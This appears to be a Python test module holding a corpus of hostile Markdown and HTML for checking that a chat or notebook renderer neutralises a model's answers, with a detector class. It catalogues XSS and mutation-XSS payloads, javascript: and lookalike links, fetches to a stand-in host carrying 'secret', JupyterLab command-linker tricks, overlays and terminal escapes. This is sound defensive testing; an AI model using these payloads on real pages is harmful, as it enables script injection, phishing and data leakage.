"""Answers that attack the page they are shown in.

Each is Markdown as a model could send it. What would run says ``top.hit=1`` and nothing else; what
would fetch asks `AWAY`, or `HERE` on the server of the page itself. `Trap` notices both.
`test_hostile_browser.py` shows first that the corpus bites where nothing is cleaned.
"""

# ruff: noqa: E501 - an attack is easiest to read in one line
from __future__ import annotations

import contextlib
from typing import Any

from playwright.sync_api import Error, Frame, Page

from ornb.api.reply import Reply
from ornb.messages import Conversation

AWAY = "https://hostile.example/"
HERE = "/hostile-"

SCRIPTS = {
    "script": "<script>top.hit=1</script>",
    "script in capitals": "<SCRIPT >top.hit=1</SCRIPT >",
    "script with slashes": "<script/x>top.hit=1</script/>",
    "script from away": f"<script src={AWAY}s.js></script>",
    "module": f"<script type=module>import '{AWAY}m.js'</script>",
    "import map": f'<script type=importmap>{{"imports":{{"x":"{AWAY}x.js"}}}}</script>',
    "speculation": (
        '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["' + AWAY + 'p"]}]}'
        "</script>"
    ),
    "after a comment": "<!-- --><script>top.hit=1</script><!-- -->",
    "in a broken comment": "<!--><script>top.hit=1</script>-->",
    "in CDATA": "<![CDATA[><script>top.hit=1</script>]]>",
    "after an instruction": "<?x ><script>top.hit=1</script>?>",
    "in noscript": '<noscript><p title="</noscript><script>top.hit=1</script>">',
    "in a template": "<template shadowrootmode=open><script>top.hit=1</script></template>",
    "in a title": "<title><a title='</title><script>top.hit=1</script>'>",
    "in a textarea": "<textarea></textarea><script>top.hit=1</script>",
    "as entities": "&#x3c;script&#x3e;top.hit=1&#x3c;/script&#x3e; &lt;img src=x onerror=top.hit=1>",
    "escaped": "\\<script>top.hit=1\\</script> \\\\<script>top.hit=1</script>",
    "across a line": "<scr\nipt>top.hit=1</scr\nipt>\n<img src=x\nonerror=top.hit=1>",
    "in a heading": "# <script>top.hit=1</script>",
    "in a list": "- <script>top.hit=1</script>\n  - <img src=x onerror=top.hit=1>",
    "in a quote": "> <script>\n> top.hit=1\n> </script>",
    "in a table": "| <img src=x onerror=top.hit=1> | b |\n|---|:-:|\n| <script>top.hit=1</script> | x |",
    "in emphasis": "**<script>top.hit=1</script>** ~~<img src=x onerror=top.hit=1>~~",
    "in a fence that ends early": "```html\n</code></pre><script>top.hit=1</script>\n```",
    "in the name of a language": '```html" onmouseover=top.hit=1 x="\n<script>top.hit=1</script>\n```',
    "in inline code": "`</code><script>top.hit=1</script>`",
    "as a fence of JavaScript": "```javascript\ntop.hit=1\n```",
    "as a cell's magic": "%%javascript\ntop.hit=1",
}
"""Script by every door that Markdown leaves open."""

HANDLERS = {
    "img": "<img src=x onerror=top.hit=1>",
    "img with slashes": "<img/src/onerror=top.hit=1>",
    "img unclosed": "<img src=x onerror=top.hit=1 x='",
    "image": "<image src=x onerror=top.hit=1>",
    "svg": "<svg onload=top.hit=1>",
    "svg animation": "<svg><animate onbegin=top.hit=1 attributeName=x dur=1s></svg>",
    "svg link": "<svg><a><animate attributeName=href to=javascript:top.hit=1 /><text y=9>x</text></a>",
    "svg script": "<svg><script href='data:text/javascript,top.hit=1' /></svg>",
    "details": "<details open ontoggle=top.hit=1>x</details>",
    "focus": "<input autofocus onfocus=top.hit=1><a tabindex=0 autofocus onfocus=top.hit=1>x</a>",
    "pointer": "<b onpointerover=top.hit=1 onmouseover=top.hit=1 onclick=top.hit=1>x</b>",
    "video": "<video><source onerror=top.hit=1></video><audio src=x onerror=top.hit=1></audio>",
    "body": "<body onload=top.hit=1 onpageshow=top.hit=1>",
    "style": "<style onload=top.hit=1></style>",
    "marquee": "<marquee onstart=top.hit=1>x</marquee>",
    "popover": "<button popovertarget=p onclick=top.hit=1>x</button><p popover id=p ontoggle=top.hit=1>",
    "animation": "<style>@keyframes k{}</style><p style='animation:k 1ms' onanimationstart=top.hit=1>x",
    "scroll": "<div style='height:9px;overflow:auto' onscrollend=top.hit=1>x<br>y<br>z</div>",
    "dialog": "<dialog open onclose=top.hit=1 oncancel=top.hit=1>x</dialog>",
    "form": "<form onsubmit=top.hit=1><button formaction=javascript:top.hit=1>x</button></form>",
    "image's words": '![x"onerror=top.hit=1 y](https://hostile.example/"onerror=top.hit=1//)',
    "image's title": "![x](https://hostile.example/a.png 'a\" onload=\"top.hit=1')",
    "link's title": "[x](https://hostile.example/ 'a\" onmouseover=\"top.hit=1')",
    "autolink": '<https://hostile.example/"onmouseover=top.hit=1>',
    "own element": "<x-y onclick=top.hit=1 contenteditable onfocus=top.hit=1>x</x-y>",
}
"""Attributes that run."""

CONFUSED = {
    "mglyph": "<math><mtext><mglyph><style><img src=x onerror=top.hit=1>",
    "malignmark": "<math><mi><malignmark><style><!--</style><img src=x onerror=top.hit=1>-->",
    "table in math": "<math><mtext><table><mglyph><style><img src=x onerror=top.hit=1></table>",
    "form in math": "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=top.hit=1>",
    "annotation": (
        "<math><annotation-xml encoding=text/html><img src=x onerror=top.hit=1></annotation-xml></math>"
    ),
    "foreign object": "<svg><foreignObject><iframe srcdoc='<script>top.hit=1</script>'></svg>",
    "desc": "<svg><desc><style><img src=x onerror=top.hit=1></style></desc></svg>",
    "title of svg": "<svg><title><style><img title='</style><img src=x onerror=top.hit=1>'>",
    "math link": "<math href=javascript:top.hit=1><mi>x</mi></math>",
    "maction": "<math><maction actiontype=statusline xlink:href=javascript:top.hit=1><mi>x</mi></maction>",
    "style in svg": "<svg></p><style><a id='</style><img src=x onerror=top.hit=1>'>",
    "text": "$\\text{<mglyph><style></math><img/src/onerror=top.hit=1>}$",
    "text in a display": "$$\\text{</mtext></math><script>top.hit=1</script>}$$",
    "text as entities": "$\\text{&lt;img src=x onerror=top.hit=1&gt;}$ \\(\\text{&#60;script>top.hit=1}\\)",
    "mbox": "\\[\\mbox{<img src=x onerror=top.hit=1>} + \\mathrm{<svg/onload=top.hit=1>}\\]",
    "operator": "$\\operatorname{<img src=x onerror=top.hit=1>} \\mathtt{<script>top.hit=1</script>}$",
    "href": "$\\href{javascript:top.hit=1}{x}$ $\\url{javascript:top.hit=1}$",
    "MathJax's html": "$\\class{jp-Dialog}{x} \\cssId{main}{x} \\data{x=y}{x} \\unicode{x3c}$",
    "MathJax's style": f"$\\style{{position:fixed;inset:0;background:url({AWAY}style)}}{{x}}$",
    "KaTeX's html": "$\\htmlClass{jp-Dialog}{x}$ $\\htmlStyle{position:fixed;inset:0}{x}$",
    "KaTeX's image": f"$\\includegraphics[width=9em]{{{AWAY}katex.png}}$",
    "macros": "$\\def\\x{\\x\\x}\\x$ $\\newcommand{\\y}{<img src=x onerror=top.hit=1>}\\y$",
    "in a table of math": "| $\\text{<script>}$ |\n|---|\n| $$\\text{<img src=x onerror=top.hit=1>}$$ |",
    "matrix": "$$\\begin{matrix}<img src=x onerror=top.hit=1> & \\text{</math><script>top.hit=1</script>}"
    "\\end{matrix}$$",
}
"""Where one parser reads HTML and the other SVG or MathML, and formulas that hold markup."""

LINKS = {
    "javascript": "[go](javascript:top.hit=1) <javascript:top.hit=1> [go](<javascript:top.hit=1>)",
    "mixed case": "[go](JaVaScRiPt:top.hit=1) [go](jav&#x09;ascript:top.hit=1)",
    "entities": "[go](&#106;avascript:top.hit=1) [go](javascript&colon;top.hit=1) [go](&#1;javascript:x)",
    "escapes": "[go](\\javascript:top.hit=1) [go](java\\script:top.hit=1) [go](javascript\\:top.hit=1)",
    "percents": "[go](%6aavascript:top.hit=1) [go](javascript%3Atop.hit=1)",
    "newline": "[go](java&NewLine;script:top.hit=1) [go](java&Tab;script:top.hit=1)",
    "defined": "[go][j] [go]\n\n[j]: javascript:top.hit=1\n[go]: JAVASCRIPT:top.hit=1",
    "data": "[go](data:text/html,<script>top.hit=1</script>) [go](data:text/html;base64,PHNjcmlwdD4)",
    "other schemes": (
        "[go](vbscript:x) [go](file:///etc/passwd) [go](blob:https://hostile.example/1) "
        "[go](view-source:https://hostile.example) [go](filesystem:x) [go](about:blank) [go](x:y)"
    ),
    "relative": "[go](//hostile.example/) [go](/lab/api) [go](?reset) [go](#main) [go](attachment:a.png)",
    "odd slashes": "[go](https:hostile.example) [go](https:/\\hostile.example) [go](https:///hostile.example)",
    "user": "[go](https://good.example@hostile.example/) <https://good.example@hostile.example/>",
    "backslash": "[go](https://hostile.example\\@good.example/) [go](https://good.example\\.hostile.example)",
    "percents in the host": "[go](https://%68ostile.example/) [go](https://good.example%2F@hostile.example)",
    "numbers": "[go](http://2130706433/) [go](http://0x7f.1/) [go](http://0177.0.0.1/) [go](http://127.1)",
    "lookalikes": (
        "[go](https://g\u043e\u043ed.example) [go](https://good\u3002example) [go](https://\uff47ood.example) "
        "[go](https://go\u00adod.example) [go](https://good\u200b.example) <https://\u0430pple.example>"
    ),
    "another address as the text": "[https://good.example/](https://hostile.example/)",
    "turned around": (
        "[\u202emoc.elpmaxe.doog//:sptth\u202c](https://hostile.example/) \u202e"
        "<https://hostile.example/moc.doog//:sptth> [x\u2067](https://hostile.example/)"
    ),
    "hidden": "[\u200b](https://hostile.example/) [](https://hostile.example/) [ ](https://hostile.example/)",
    "long": "[go](https://good.example." + "a." * 60 + "hostile.example/)",
    "mail": "[go](mailto:a@good.example?bcc=b@hostile.example&body=secret) <a@good.example>",
    "ping": f"<a href=https://good.example ping={AWAY}ping attributionsrc={AWAY}as>go</a>",
    "raw": "<a href=javascript:top.hit=1 target=_self download>go</a> <area href=javascript:top.hit=1>",
    "base": f"<base href={AWAY} target=_self>[go](x)",
}
"""Links that run, and links that lead elsewhere than they say."""

FETCHES = {
    "image": f"![x]({AWAY}image?q=secret) ![x](//hostile.example/a) ![x]({HERE}image)",
    "image defined": f"![x][r] ![r]\n\n[r]: {AWAY}r.png",
    "image in a link": f"[![x]({AWAY}inner.png)]({AWAY})",
    "image inside": "![x](data:image/svg+xml;base64,PHN2Zy8+) ![x](data:image/png;base64,AAAA)",
    "img": f"<img src={AWAY}img><img srcset='{AWAY}set 1x, {HERE}set 2x'><img lowsrc={AWAY}low>",
    "img of the page": f"<img src={HERE}img loading=eager>",
    "picture": f"<picture><source srcset={AWAY}source><img></picture>",
    "video": f"<video src={AWAY}v poster={AWAY}p autoplay><track src={AWAY}t default></video>",
    "audio": f"<audio src={AWAY}a preload=auto></audio><video><source src={HERE}v></video>",
    "iframe": f"<iframe src={AWAY}f></iframe><iframe srcdoc='<script>top.hit=1</script>'></iframe>",
    "iframe of script": "<iframe src=javascript:top.hit=1></iframe><iframe src='data:text/html,x'></iframe>",
    "frameset": f"<frameset><frame src={AWAY}frame></frameset>",
    "object": f"<object data={AWAY}o></object><object data='data:text/html,<script>top.hit=1</script>'>",
    "embed": f"<embed src={AWAY}e><embed src=javascript:top.hit=1><applet code={AWAY}j></applet>",
    "newer frames": f"<portal src={AWAY}portal></portal><fencedframe src={AWAY}ff></fencedframe>",
    "refresh": f'<meta http-equiv=refresh content="0;url={AWAY}refresh">',
    "cookie": '<meta http-equiv=set-cookie content="a=b">',
    "stylesheet": f"<link rel=stylesheet href={AWAY}l.css><link rel=icon href={AWAY}i.ico>",
    "preload": f"<link rel=preload as=image href={AWAY}pre><link rel=prefetch href={HERE}pre>",
    "connect": f"<link rel=dns-prefetch href={AWAY}><link rel=preconnect href={AWAY}>",
    "manifest": f"<link rel=manifest href={AWAY}m><link rel=modulepreload href={AWAY}mod.js>",
    "import of style": f"<style>@import '{AWAY}x.css'; body{{background:url({AWAY}bg)}}</style>",
    "font": f"<style>@font-face{{font-family:f;src:url({AWAY}font)}}body{{font-family:f}}</style>",
    "style": f"<p style='background:url({AWAY}style);list-style-image:image-set(\"{AWAY}is\" 1x)'>x</p>",
    "style in Markdown": f'[x]({AWAY}){{style="background:url({AWAY}attr)"}}',
    "background": f"<table background={AWAY}tb><tr><td background={AWAY}td>x</table><body background={AWAY}b>",
    "svg": f"<svg><image href={AWAY}si /><use href={AWAY}su#x /><feImage href={AWAY}fe /></svg>",
    "svg by xlink": f"<svg><image xlink:href={AWAY}xl /><rect fill='url({AWAY}fill#x)' width=9 height=9 /></svg>",
    "svg filter": f"<svg><rect filter='url({AWAY}filter#x)' mask='url({AWAY}mask#x)' width=9 height=9 /></svg>",
    "svg style": f"<svg><style>@import '{AWAY}svg.css'</style></svg>",
    "input": f"<input type=image src={AWAY}input><bgsound src={AWAY}bg>",
    "form": f"<form action={AWAY}form id=f><input name=q value=secret><button>Continue</button></form>",
    "form outside": f"<button form=f formaction={AWAY}outside>x</button>",
    "xml style": f"<?xml-stylesheet href='{AWAY}xml.css'?>",
    "cell's magic": f"%%html\n<img src={AWAY}magic>",
}
"""Every element that fetches by itself."""

DRESSED = {
    "overlay": "<div style='position:fixed;inset:0;z-index:9999;background:#fff'>Sign in again</div>",
    "overlay by class": "<div class='jp-Dialog lm-Widget jp-ThemedContainer'>Sign in again</div>",
    "overlay by style": "<style>body *{display:none}body::after{content:'x';position:fixed;inset:0}</style>",
    "command": '<button data-commandlinker-command="notebook:insert-cell-below">Run</button>',
    "command with arguments": (
        "<a data-commandlinker-command='terminal:create-new' data-commandlinker-args='{}' href=#>x</a>"
    ),
    "command in a link": '[go](https://hostile.example/){data-commandlinker-command="notebook:run-all"}',
    "command in an image": '![x" data-commandlinker-command="notebook:insert-cell-below](https://hostile.example/)',
    "our classes": "<div class='ornb-static ornb-chat turn answer'><footer class=facts>live · $0</footer></div>",
    "our button": "<pre class=ornb-code><code>x</code></pre><button class=send>Send</button>",
    "our line": "<p><small>live · acme/orbit · $0 billed</small></p>",
    "names of the page": "<a id=jupyterapp name=jupyterapp>x</a><form name=body><img name=cookie></form>",
    "mermaid": '```mermaid\ngraph LR; A["<img src=x onerror=top.hit=1>"]\nclick A call top.hit() "x"\n```',
    "mermaid link": f'```mermaid\nflowchart LR\nA-->B\nclick A href "javascript:top.hit=1"\nB@{{img: "{AWAY}m"}}\n```',
    "vega": f'```vega\n{{"data":{{"url":"{AWAY}vega.json"}},"mark":"bar"}}\n```',
    "front matter": "---\ntitle: x\n---\n\n:::{raw} html\n<script>top.hit=1</script>\n:::",
    "inline script": "{{ cell.source }} ${top.hit=1} <%= 1 %> {% raw %}<script>top.hit=1</script>{% endraw %}",
    "slots": "<p slot=x is=x-y part=z contenteditable draggable=true accesskey=s>x</p>",
    "popover": "<p popover id=p>x</p><button popovertarget=p popovertargetaction=show>x</button>",
    "wide formula": "$\\hspace{-99em}x \\rule{99em}{99em} \\raise{999em}{x} \\colorbox{red}{x} a \\above 99em b$",
    "tall formula": "$$\\genfrac(){99em}{0}{a}{b} \\Huge \\mathstrut x^{x^{x^{x^{x}}}}$$",
}
"""What takes over the page by looks, or by JupyterLab's own attributes."""

UNICODE = {
    "bidi in code": "```python\nif admin:\u202e\u2066 # check\u2069 \u2066return\n```\n`a\u202eb`",
    "bidi left open": "\u202d\u202e\u2067\u2066 left open",
    "marks": "Z" + "\u0335\u0336\u0337\u0338" * 200 + " x",
    "controls": "a\0b\x01c\x08d\x0be\x0cf\x1bg\x7fh\x85i\u2028j\u2029k\ufeffl\ufffem",
    "surrogates": "\ud83d \ude00 <\ud83dscript>",
    "tags": "x\U000e0073\U000e0063\U000e0072\U000e0069\U000e0070\U000e0074y",
    "wide letters": "\uff1cscript\uff1etop.hit=1\uff1c/script\uff1e \u2039img src=x onerror=top.hit=1\u203a",
    "null in a tag": "<scr\0ipt>top.hit=1</scr\0ipt><img src=x o\0nerror=top.hit=1>",
    "long word": "w" * 5_000,
}
"""Text that is not what it looks like."""

DEEP = {
    "quotes": ">" * 1_000 + " <script>top.hit=1</script>",
    "lists": "- " * 500 + "<img src=x onerror=top.hit=1>",
    "elements": "<div>" * 1_000 + "<script>top.hit=1</script>",
    "emphasis": "*a **b " * 500,
    "brackets": "[" * 1_000 + "x](javascript:top.hit=1)",
    "images": "![a](" * 500 + f"{AWAY}deep)",
    "math": "$" + "\\sqrt{" * 300 + "\\text{<script>top.hit=1</script>}" + "}" * 300 + "$",
    "svg": "<svg>" * 300 + "<math><mtext>" * 300 + "<style><img src=x onerror=top.hit=1>",
    "table": "|" * 500 + "\n" + "|-" * 500 + "\n| <img src=x onerror=top.hit=1>",
}
"""Nesting that one parser cuts off and another does not."""

GROUPS = {
    "script": SCRIPTS,
    "handler": HANDLERS,
    "confused": CONFUSED,
    "link": LINKS,
    "fetch": FETCHES,
    "dressed": DRESSED,
    "unicode": UNICODE,
    "deep": DEEP,
}
HOSTILE = {
    f"{group}: {name}": text for group, them in GROUPS.items() for name, text in them.items()
}
"""The whole corpus, by name."""

CALLS = {
    "turned around": '{"path": "\u202etxt.repap-ym/\u202c"}',
    "left open": '{"path": "/a\u2067\u2066", "force": true}',
    "beyond the end": '{"pad": "'
    + "x" * 12_000
    + '", "path": "/", "more": "'
    + "y" * 12_000
    + '"}',
    "to a terminal": '{"path": "/\x9b2K\x9b1G/tmp/a"}',
}
"""Arguments of a tool that a person is asked to allow, which are not what they look like."""

ODD_HOSTS = (
    "https://0x7f.1/",
    "http://2130706433/",
    "https://%65vil.example/",
    "https://good.example%2eevil.example/",
    "https://g\u043e\u043ed.example/",
    "https://good.example@hostile.example/",
    "https:hostile.example",
    "http://127.1/",
    "https://good.example\\@hostile.example/",
)
"""Addresses that browsers take for other hosts than a reader, or Python, does."""

TERMINAL = "a\x1b]52;c;ZXZpbA==\x07b\x1b[2Jc\x1b]8;;https://hostile.example/\x1b\\d\x9b31me\rf\b\x00\u202eg"
"""What a terminal obeys: the clipboard, the screen, a link, colours, the line."""

ANSWER = "\n\n".join(text for name, text in HOSTILE.items() if not name.startswith("deep"))
"""All but the deep ones as one answer: a tag that one leaves open meets the next."""


def conversation(text: str = "") -> Conversation:
    """A conversation that is hostile in every field: names, errors, notes, files, tools, sources.

    `text` is the answer's; by default a script and a picture.
    """
    evil = "\n".join([HANDLERS["img"], SCRIPTS["script"], "\u202e"])
    hosts = (AWAY + '"onload=top.hit=1', "javascript:top.hit=1", evil, AWAY, *ODD_HOSTS)
    cited = [
        {"type": "url_citation", "url_citation": {"url": url, "title": evil, "content": evil}}
        for url in hosts
    ]
    said = Reply(
        text=text or evil,
        reasoning=evil,
        model=evil,
        provider=evil,
        requested_model=evil + "x",
        note=evil,
        error=evil,
        finish_reason=evil,
        source=evil,
        status="error",
        images=(evil, AWAY + "i.png", 'data:image/png;base64,AAAA"onload="top.hit=1'),
        annotations=tuple(cited),
    )
    parts: list[dict[str, Any]] = [
        {"type": "text", "text": evil},
        {"type": "image_url", "image_url": {"url": AWAY + "sent.png"}},
        {"type": "image_url", "image_url": {"url": 'data:image/png;base64,AA"onload="top.hit=1'}},
        {"type": "image_url", "image_url": {"url": "javascript:top.hit=1"}},
        {"type": "file", "file": {"filename": evil, "file_data": AWAY}},
        {"type": evil, evil: {"url": evil}},
    ]
    calls: list[Any] = [
        {"id": name, "function": {"name": evil, "arguments": arguments}}
        for name, arguments in {"1": evil, **CALLS}.items()
    ]
    talk = Conversation(system=evil)
    talk.add_user(parts)
    talk.add_reply(
        said,
        steps=[
            {"role": "assistant", "tool_calls": [*calls, {}, {"function": evil}]},
            {"role": "tool", "tool_call_id": "1", "content": evil},
            {"role": "tool", "content": [{"type": "text", "text": evil}]},
        ],
    )
    return talk


POKE = """root => {
  const events = ["mouseover", "mouseenter", "pointerover", "focus", "toggle", "load", "error",
    "animationstart", "begin", "scroll"];
  for (const element of root.querySelectorAll("*")) {
    for (const kind of events) element.dispatchEvent(new Event(kind));
    if (element.matches("details")) element.open = true;
  }
}"""

_FACTS = """root => {
  const all = [...root.querySelectorAll("*")];
  const links = all.filter(e => e.matches("a[href], area[href]"));
  // The table of a comparison says in this style, and no other, where its text stands.
  const ours = a => a.name === "style" && /^text-align: ?left; ?vertical-align: ?top;?$/.test(a.value);
  return {
    handlers: all.filter(e => [...e.attributes].some(a => !ours(a)
      && /^on|^data-|^style$|^id$|^name$|^slot$/i.test(a.name))).map(e => e.outerHTML.slice(0, 200)),
    loading: all.filter(e => e.matches("[src]:not([src^='data:image/']), [srcset], [poster], "
      + "[background], object, embed, iframe, frame, link, meta, base, script, form, svg, video, "
      + "audio, input, template")).map(e => e.outerHTML.slice(0, 200)),
    fixed: all.filter(e => ["fixed", "sticky", "absolute"].includes(getComputedStyle(e).position))
      .map(e => e.outerHTML.slice(0, 200)),
    links: links.map(a => ({
      url: a.href, host: new URL(a.href).hostname || a.href.replace(/[?].*/, "").replace(/.*@/, ""),
      rel: a.rel, target: a.target,
      shown: a.textContent + (a.nextElementSibling?.matches(".ornb-host")
        ? a.nextElementSibling.textContent : ""),
    })),
  };
}"""


_SETTLED = """async () => {
  for (let round = 0; round < 2; round += 1) {
    await new Promise((done) => {
      const last = new Image();
      last.onload = last.onerror = done;
      last.src = location.href;
    });
    await new Promise(requestAnimationFrame);
  }
}"""


def settle(page: Page) -> None:
    """Wait until what a page has begun is done: a request of our own comes after all of its own.

    That this is late enough to see what runs and fetches is held by
    `test_the_corpus_bites_where_nothing_is_cleaned`.
    """
    page.evaluate(_SETTLED)


class Trap:
    """Notices in a page what a hostile answer did."""

    def __init__(self, page: Page) -> None:
        self.page = page
        self.asked: list[str] = []
        self.opened: list[str] = []
        page.on("request", lambda request: self._ask(request.url))
        page.on("dialog", self._dialog)
        page.on("download", lambda download: self.opened.append(f"download {download.url}"))
        page.on("popup", lambda popup: self.opened.append(f"popup {popup.url}"))
        page.on("frameattached", self._frame)
        page.on("framenavigated", lambda frame: self._ask(frame.url))

    def _ask(self, url: str) -> None:
        if "hostile" in url:
            self.asked.append(url)

    def _dialog(self, dialog: Any) -> None:
        self.opened.append(f"dialog {dialog.message}")
        with contextlib.suppress(Error):
            dialog.dismiss()

    def _frame(self, frame: Frame) -> None:
        self.opened.append(f"frame {frame.name}")

    def assert_nothing_happened(self) -> None:
        """Nothing ran, was fetched, or opened by itself."""
        settle(self.page)
        assert self.page.evaluate("window.hit ?? null") is None, "script of an answer ran"
        assert self.asked == [], "an answer fetched"
        assert self.opened == [], "an answer opened a window, a frame or a dialog"

    def assert_tame(self, selector: str) -> None:
        """What an answer became runs nothing when it is touched, and its links are honest."""
        roots = self.page.locator(selector).all()
        assert roots, f"nothing is shown at {selector}"
        for root in roots:
            root.evaluate(POKE)
            found = root.evaluate(_FACTS)
            assert found["handlers"] == [], selector
            assert found["loading"] == [], selector
            assert found["fixed"] == [], selector
            for link in found["links"]:
                assert link["url"].startswith(("https://", "http://", "mailto:")), link
                assert link["host"] in link["shown"], link
                assert "noopener" in link["rel"].split(), link
                assert link["target"] == "_blank", link
        self.assert_nothing_happened()
